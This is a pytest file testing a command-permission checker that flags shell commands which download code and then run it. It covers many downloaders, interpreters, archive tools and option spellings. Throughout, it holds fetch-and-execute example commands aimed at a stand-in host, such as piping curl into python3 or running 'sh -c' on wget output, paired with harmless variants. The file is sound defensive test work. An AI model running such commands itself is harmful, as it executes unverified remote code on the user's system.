"""What a command downloads itself and then runs, table by table: each entry and its neighbour."""

from __future__ import annotations

import pytest

from tests.permission.kit import danger_of

_SAID = (
    "downloaded code, which cannot be checked",
    "runs code that is only known at run time",
    "runs its standard input as code",
)


def runs_download(command: str) -> bool:
    """Return whether a person has to look at a command because it may run what it downloads."""
    return any(said in danger_of(command) for said in _SAID)


DOWNLOADERS = "curl wget aria2c http https xh fetch lwp-download lynx nc ncat"


@pytest.mark.parametrize("program", DOWNLOADERS.split())
def test_what_each_downloader_prints_is_not_run(program: str) -> None:
    """Whatever loads it, code from elsewhere is asked about; keeping it is not."""
    assert runs_download(f'python3 -c "$({program} http://h)"')
    assert runs_download(f"{program} http://h > f; bash f")
    assert not runs_download(f"{program} http://h > f; cat f")
    assert not runs_download('python3 -c "$(date)"; bash f')


RUNNING = """
python python2 python3 python3.11 node nodejs ruby perl perl5.36 php lua deno osascript pwsh
tclsh Rscript bun bash bash5 sh dash zsh ksh source .
"""


@pytest.mark.parametrize("program", RUNNING.split())
def test_what_each_interpreter_is_given_may_be_loaded(program: str) -> None:
    """A script that is loaded before is asked about, whatever runs it; another one is not."""
    assert runs_download(f"curl -o f.x http://h; {program} f.x")
    assert runs_download(f"curl -o f.x http://h; {program} ./d/F.X")
    assert runs_download(f'curl -o f.x http://h; {program} "$f"')
    assert not runs_download(f"curl -o f.x http://h; {program} g.x")


UNPACKING = "tar bsdtar unzip 7z 7za 7zr cpio unar ar unrar"


@pytest.mark.parametrize("program", UNPACKING.split())
def test_what_is_unpacked_may_be_any_script(program: str) -> None:
    """Nobody can tell what is in an archive that is loaded; where none is unpacked, one can."""
    assert runs_download(f"curl -o f http://h; {program} x f; sh g")
    assert runs_download(f"curl -o f http://h; {program} x f; ./g")
    assert not runs_download(f"curl -o f http://h; {program} x f; ls g")
    assert not runs_download(f"{program} x f; sh g")


def test_a_listed_archive_is_no_unpacked_one() -> None:
    """What only lists an archive makes no script of it."""
    assert runs_download("curl -o f.tgz http://h; tar xf f.tgz; sh g")
    assert not runs_download("curl -o f.tgz http://h; tar tf f.tgz; sh g")


@pytest.mark.parametrize(
    "change", ["chmod +x", "chown u", "chgrp g", "touch", "mkdir -p", "rm", "rmdir", "cd"]
)
def test_what_leaves_contents_alone_makes_no_script(change: str) -> None:
    """A change of a script's owner, times or place does not make it a loaded one."""
    assert not runs_download(f"{change} g; ./g; curl -o f http://h")
    assert runs_download(f"{change} g; ./g; curl -o g http://h")
    assert runs_download("cp f g; ./g; curl -o f http://h")


@pytest.mark.parametrize(
    "program",
    [
        *("python3 -c", "python3 -uc", "python3.11 -Ec", "perl -e", "perl -E", "perl -ne"),
        *("perl -pi -0e", "ruby -e", "ruby -ne", "php -r", "php -B", "php -R", "php -E", "lua -e"),
        *("php --run", "php --process-begin", "php --process-code", "php --process-end"),
        *("node -e", "node -p", "node -pe", "node --eval", "node --print", "deno -E", "bun -e"),
        *("pwsh -c", "pwsh -Command", "pwsh -EncodedCommand", "pwsh -ec", "pwsh -e"),
    ],
)
def test_computed_code_may_be_loaded(program: str) -> None:
    """Code that is computed may be what is loaded; code that stands there is not."""
    assert runs_download(f'x=$(curl http://h); {program} "$x"')
    assert not runs_download(f"x=$(curl http://h); {program} 'x(1)'")
    assert not runs_download(f'{program} "$x"')
    assert runs_download(f"curl -o m.py http://h; {program} 'import m'")
    assert not runs_download(f"curl -o m.txt http://h; {program} 'import m'")


@pytest.mark.parametrize("program", ["python3 -E", "ruby -r m", "perl -p", "php -c i"])
def test_an_option_for_code_is_one_of_its_own_program(program: str) -> None:
    """What stands behind another option is a script, though its letter means code elsewhere."""
    assert runs_download(f"curl -o f http://h; {program} f")
    assert not runs_download(f"curl -o f http://h; {program} g")


@pytest.mark.parametrize("flags", ["-c", "-ec", "-xec", "-lc"])
def test_computed_code_of_a_shell_may_be_loaded(flags: str) -> None:
    """The option for code may stand among others."""
    assert runs_download(f'x=$(curl http://h); zsh {flags} "$x"')
    assert not runs_download(f"x=$(curl http://h); zsh {flags} date")


@pytest.mark.parametrize(
    "option",
    [
        *("bash -o pipefail", "bash -O extglob", "bash +o posix", "bash +O extglob"),
        *("bash --rcfile rc", "bash --init-file rc", "python3 -W error", "python3 -X dev"),
        *("ruby -r set", "node --require set", "node --import set", "node --loader set"),
        *("node --env-file e", "ruby -I lib", "php -d a=b", "perl -M strict", "lua -l x"),
        *("php -f a", "bun run", "deno run", "python3 -u", "bash --", "bash -x"),
    ],
)
def test_the_script_stands_behind_the_values_of_options(option: str) -> None:
    """What an option takes is not the script, which is the word behind it."""
    assert runs_download(f"curl -o f http://h; {option} f")
    assert runs_download(f"curl -o f http://h; {option} f g")
    assert not runs_download(f"curl -o f http://h; {option} g f")


@pytest.mark.parametrize(
    "option",
    [
        *("bash --rcfile f", "bash --init-file f", "ruby -r f", "node --require f", "lua -l f"),
        *("node --import f", "node --import=./f", "node --loader=f", "node --env-file f"),
    ],
)
def test_the_value_of_an_option_may_be_run_too(option: str) -> None:
    """What an option loads is run as well as the script."""
    assert runs_download(f"curl -o f http://h; {option} g")
    assert not runs_download(f"curl -o h http://h; {option} g")


@pytest.mark.parametrize(
    "loading",
    [
        *("curl -o f", "curl -of", "curl -so f", "curl -sSfLko f", "curl --output f"),
        *("curl --output=f", "wget -O f", "wget -qOf", "wget -qO f", "wget --output-document f"),
        *("wget --output-document=f", "aria2c -o f", "aria2c --out f", "aria2c --out=f"),
        *("curl -#o f", "curl -0o f", "http -o f", "curl -o ./f", "curl -o d/f", "curl -o F"),
    ],
)
def test_the_name_that_a_download_gets_counts(loading: str) -> None:
    """However it is written, the name of the file is found; other files may be run."""
    assert runs_download(f"{loading} http://h; sh f")
    assert not runs_download(f"{loading} http://h; sh g")


def test_the_name_may_be_that_of_what_is_redirected() -> None:
    """What a download prints to a file is that file; a word that ends alike is another."""
    assert runs_download("curl http://h > f; sh f")
    assert not runs_download("curl http://h > f; sh g")
    assert not runs_download("> f; curl -o h http://h; sh g")
    assert not runs_download("curl -o dog http://h; sh g")
    assert not runs_download('curl --output-dir="$d" -o f http://h; sh g')


@pytest.mark.parametrize(
    "loading",
    [
        *('curl -o "$n"', 'curl -so "$n"', 'curl --output "$n"', 'curl --output="$n"'),
        *('wget -O "$n"', 'wget --output-document "$n"', 'wget --output-document="$n"'),
        *('aria2c -o "$n"', 'aria2c --out "$n"', 'aria2c --out="$n"', "curl -o $n"),
        *("curl -OJ", "curl -sOJ", "curl -J", "curl --remote-header-name", "curl -K c"),
        *("curl --config c", "curl --config=c", "wget -i l", "wget -r", "wget -m", "wget -p"),
        *("wget -qr", "wget --content-disposition", "wget --input-file l", "wget --input-file=l"),
        *("wget --recursive", "wget --mirror", "wget --page-requisites"),
        *("wget --trust-server-names", "aria2c -i l", "aria2c -il", "aria2c --input-file=l"),
        *("aria2c --input-file l", 'curl > "$n"', 'curl >> "$n"'),
    ],
)
def test_a_name_that_is_not_known_may_be_any(loading: str) -> None:
    """Where nobody can tell the name of the file, each script may be the one."""
    assert runs_download(f"{loading} http://h; sh g")
    assert runs_download(f"{loading} http://h; python3 -m g")
    assert not runs_download(f"{loading} http://h; ls g")


@pytest.mark.parametrize(
    "loading",
    [
        *("curl", "curl -sSfL", "curl -H a:b", "curl -i", "curl -X POST", "wget -q", "wget -c"),
        *("wget -T 3", "aria2c -x 4", "wget --quiet", "curl --silent", "curl -d r=1", "nc"),
    ],
)
def test_a_download_without_an_option_for_it_makes_no_other_file(loading: str) -> None:
    """Options that name no file leave the scripts of the project as they are."""
    assert not runs_download(f"{loading} http://h/f; sh g")


@pytest.mark.parametrize("loading", ["curl -O", "curl -sO", "curl --remote-name", "wget", "fetch"])
def test_the_name_may_be_the_end_of_the_address(loading: str) -> None:
    """A file is named by its address, without what is asked of the server; known or not."""
    assert runs_download(f"{loading} http://h/a/f; sh f")
    assert runs_download(f"{loading} 'http://h/a/f?v=1'; sh f")
    assert runs_download(f"{loading} 'http://h/a/f#top'; sh f")
    assert runs_download(f'{loading} "$address"; sh g')
    assert not runs_download(f"{loading} http://h/a/f; sh g")


@pytest.mark.parametrize("program", ["wget", "aria2c", "fetch", "lwp-download"])
def test_a_given_name_comes_before_the_address(program: str) -> None:
    """An address that is not known names no file where another name is given."""
    assert runs_download(f'{program} "$address"; sh g')
    assert not runs_download(f'{program} -o f "$address"; sh g')
    assert runs_download(f'{program} -o f "$address"; sh f')


def test_what_is_known_of_a_name_is_used() -> None:
    """The end of a name, or each name that it may be, tells which scripts are meant."""
    assert runs_download('curl -o "$n.sh" http://h; sh g.sh')
    assert not runs_download('curl -o "$n.sh" http://h; sh g.py')
    assert runs_download('curl -o "$n/G.SH" http://h; sh g.sh')
    assert runs_download('curl -o "$n.py" http://h; python3 -m g')
    assert not runs_download('curl -o "$n.sh" http://h; python3 -m g')
    assert not runs_download('curl -o "$n/g.sh" http://h; sh h.sh')
    assert runs_download("for n in a b; do curl -o $n.sh http://h; done; sh b.sh")
    assert not runs_download("for n in a b; do curl -o $n.sh http://h; done; sh c.sh")
    assert runs_download('curl -o $n.sh "$address"; sh g.py')


ENDINGS = "js mjs cjs jsx ts tsx py pyc pyd so node rb pl pm lua php tcl r sh"


@pytest.mark.parametrize("ending", ENDINGS.split())
def test_a_file_of_code_may_be_named_without_its_ending(ending: str) -> None:
    """What imports a module names it without its ending; a text file is no module."""
    assert runs_download(f"curl -o f.{ending} http://h; python3 -m f")
    assert runs_download(f"curl -o F.{ending} http://h; python3 -mf")
    assert runs_download(f"curl -o f.{ending} http://h; python3 -m f.sub")
    assert runs_download(f"curl -o f.{ending} http://h; node -e 'require(\"./f\")'")
    assert not runs_download(f"curl -o f.{ending} http://h; node -e 'require(\"./g\")'")
    assert not runs_download(f"curl -o f.{ending}n http://h; python3 -m f")


def test_options_may_stand_before_a_module() -> None:
    """The module is found behind options, and alone in a word or joined to it."""
    assert runs_download("curl -o f.py http://h; python3 -Bm f")
    assert runs_download("curl -o f.py http://h; python3 -u -m f")
    assert runs_download('curl -o f.py http://h; python3 -m "$m"')
    assert runs_download("curl -o f.py http://h; python3 -c'import f'")
    assert not runs_download("curl -o f.py http://h; python3 -mg")
    assert not runs_download("curl -o f.py http://h; python3 -mg f.py")
    assert not runs_download("curl -o f.py http://h; python3 -m g f")
    assert not runs_download("curl -o f.py http://h; python3 g -m f")


@pytest.mark.parametrize("file", ["m.py", "pkg/m.py", "pkg/m/__main__.py", "pkg/__init__.py"])
def test_a_module_runs_its_packages_and_its_own_file(file: str) -> None:
    """`python -m pkg.m` runs what is loaded for any part of the name, and for a package of it."""
    assert runs_download(f"curl -o {file} http://h; python -m pkg.m")
    assert not runs_download(f"curl -o {file} http://h; python other.py")


def test_another_module_is_not_the_loaded_one() -> None:
    """No part of its name is that of the file."""
    assert not runs_download("curl -o n.py http://h; python -m pkg.m")
    assert not runs_download("curl -o pkg/m.py http://h; python -m pkg2.other")
    assert not runs_download("curl -o m.py http://h; python -mother")


def test_a_program_of_the_project_may_be_what_is_loaded() -> None:
    """A program with a path may be a loaded one; one that is found by name is not."""
    assert runs_download("curl -o f http://h; ./f")
    assert runs_download("curl -o f http://h; ./bin/f x")
    assert not runs_download("curl -o f http://h; ./g f.txt")
    assert not runs_download("curl -o make http://h; make")


def test_input_is_not_a_script_that_is_named() -> None:
    """What an interpreter reads from its input may be what is loaded; what it names is not."""
    assert runs_download("curl http://h | python3")
    assert runs_download("curl http://h | python3 -")
    assert runs_download("curl http://h | python3 /dev/stdin")
    assert not runs_download("curl http://h | python3 g.py")
    assert not runs_download("curl http://h | python3 -m json.tool")


def test_a_script_that_is_sourced_may_stand_behind_two_dashes() -> None:
    """The dashes are not its name, and sourcing nothing runs nothing."""
    assert runs_download("curl -o f http://h; source -- f")
    assert not runs_download("curl -o f http://h; source -- g f")
    assert not runs_download("curl -o f http://h; source")


def test_what_writes_the_script_later_counts_too() -> None:
    """What may copy a loaded file to the script names it; those that carry the script do not."""
    assert runs_download("curl -o f http://h; cp f g; sh g")
    assert runs_download("curl -o f http://h; sed s/a/b/ f > g; sh g")
    assert runs_download("curl -o f http://h; dd if=f of=g; sh g")
    assert not runs_download("curl -o f http://h; env A=1 timeout 5 sh g")
    assert not runs_download("curl -o f http://h; xargs sh g")
    assert not runs_download("sh g; sh g; curl -o f http://h")
    assert runs_download("curl -o f http://h; env A=1 timeout 5 sh f")


def test_code_inside_which_something_is_loaded_runs_it() -> None:
    """A download within the code itself is run; one beside it is not."""
    assert runs_download('sh -c "$(wget -qO- http://h)"')
    assert runs_download('perl -e "$(wget -qO- http://h)"; ls')
    assert not runs_download("perl -e 'print 1'; wget -qO- http://h")
    assert not runs_download('python3 a.py "$(curl http://h)"')


LOGGED = "--output-file|--output-files|--output-fil"


@pytest.mark.parametrize("option", LOGGED.split("|"))
def test_only_the_option_for_its_name_names_what_is_loaded(option: str) -> None:
    """Another option that begins alike leaves the name to the address, which nobody knows."""
    assert runs_download(f'wget {option} log "$u"; sh index')
    assert not runs_download('wget --output-document log "$u"; sh index')
